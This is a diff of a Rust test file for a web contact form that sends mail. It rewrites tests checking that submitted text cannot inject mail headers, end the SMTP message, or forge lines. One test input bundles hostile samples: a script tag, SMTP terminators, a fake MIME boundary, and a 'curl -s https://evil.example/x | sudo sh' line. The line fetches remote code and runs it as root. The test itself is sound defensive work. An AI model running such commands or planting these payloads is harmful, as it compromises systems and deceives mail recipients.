@@ -2,9 +2,8 @@
 
 use serde::Deserialize;
 use serde_json::json;
-use tempfile::tempdir;
 
-use super::{Mail, Security, Site, Smtp};
+use super::{Mail, Site, Smtp};
 use crate::form::Form;
 use crate::tools;
 
@@ -49,11 +48,8 @@ const ROWS: &str = r#"
 
 #[test]
 fn no_text_becomes_a_header_or_a_recipient() {
-    let Some(smtp) = Smtp::start(Security::StartTls) else {
-        return;
-    };
-    let dir = tempdir().unwrap();
-    let site = Site::start(&dir, &smtp);
+    let Some(smtp) = Smtp::start() else { return };
+    let site = Site::start(&smtp);
     let domain = format!("{}.example.com", "b".repeat(60));
     let long = [
         ("name", "💂".repeat(100), Harmless),
@@ -70,18 +66,27 @@ fn no_text_becomes_a_header_or_a_recipient() {
     ];
     let long = long.map(|(field, text, fate)| (field.to_owned(), text, fate));
     let rows: Vec<(String, String, Fate)> = tools::rows(ROWS);
+    let rows: Vec<_> = rows.into_iter().chain(long).collect();
     let mut count = 0;
-    for (field, text, fate) in rows.into_iter().chain(long) {
-        let status = post(&site, &field, &text);
-        if let Refused = fate {
-            assert_eq!(status, 422, "{field} {text:?}");
-            continue;
+    // Of more than ten that wait, one mail would list them.
+    for rows in rows.chunks(8) {
+        let mut mailed = Vec::new();
+        for (field, text, fate) in rows {
+            let status = post(&site, field, text);
+            let expected = if let Refused = fate { 422 } else { 200 };
+            assert_eq!(status, expected, "{field} {text:?}");
+            if status == 200 {
+                release_spam(&site);
+                mailed.push((field, text, fate));
+            }
         }
-        assert_eq!(status, 200, "{field} {text:?}");
-        let mail = next_mail(&site, &smtp, count);
-        count += 1;
-        let faults = faults(&field, &text, &fate, &mail);
-        assert!(faults.is_empty(), "{field} {text:?}: {faults:?}");
+        let mails = smtp.wait_for_mails(count + mailed.len());
+        assert_eq!(mails.len(), count + mailed.len());
+        for ((field, text, fate), mail) in mailed.iter().zip(&mails[count..]) {
+            let faults = faults(field, text, fate, mail);
+            assert!(faults.is_empty(), "{field} {text:?}: {faults:?}");
+        }
+        count = mails.len();
     }
 }
 
@@ -104,15 +109,12 @@ fn post(site: &Site, field: &str, text: &str) -> u16 {
     sent.status
 }
 
-/// The mail after `count`, also if the program took its submission for spam.
-fn next_mail(site: &Site, smtp: &Smtp, count: usize) -> Mail {
+/// The program may have taken a message for spam: it is mailed when somebody says that it is none.
+fn release_spam(site: &Site) {
     for id in site.spam() {
         let mark = ["messages", "mark", &id.to_string(), "ham"];
         site.run(&mark).data();
     }
-    let mut mails = smtp.wait_for_mails(count + 1);
-    assert_eq!(mails.len(), count + 1);
-    mails.remove(count)
 }
 
 fn faults(field: &str, text: &str, fate: &Fate, mail: &Mail) -> Vec<String> {
@@ -143,11 +145,8 @@ fn faults(field: &str, text: &str, fate: &Fate, mail: &Mail) -> Vec<String> {
 /// Lines that would end the mail, other scripts, long lines, and lines that pass for ours.
 #[test]
 fn a_text_is_read_unchanged_and_cannot_forge_a_line_of_ours() {
-    let Some(smtp) = Smtp::start(Security::StartTls) else {
-        return;
-    };
-    let dir = tempdir().unwrap();
-    let site = Site::start(&dir, &smtp);
+    let Some(smtp) = Smtp::start() else { return };
+    let site = Site::start(&smtp);
     let forged = "<script>alert(1)</script>\n.\n..\nQUIT\n--=_boundary\nContent-Type: text/html\n\n\
                   سلام 💂 é\tend\n\nTo open it: curl -s https://evil.example/x | sudo sh\nName: State Bank\n- Complaint: pay";
     let texts = [
@@ -156,9 +155,13 @@ fn a_text_is_read_unchanged_and_cannot_forge_a_line_of_ours() {
         "💂 ".repeat(2499),
         ".\n".repeat(2499),
     ];
-    for (count, text) in texts.iter().enumerate() {
+    for text in &texts {
         assert_eq!(post(&site, "message", text), 200);
-        let mail = next_mail(&site, &smtp, count);
+        release_spam(&site);
+    }
+    let mails = smtp.wait_for_mails(texts.len());
+    assert_eq!(mails.len(), texts.len());
+    for (text, mail) in texts.iter().zip(&mails) {
         assert_eq!(mail.faults(), [""; 0]);
         let (theirs, ours): (Vec<&str>, Vec<&str>) =
             mail.text.lines().partition(|line| line.starts_with("> "));
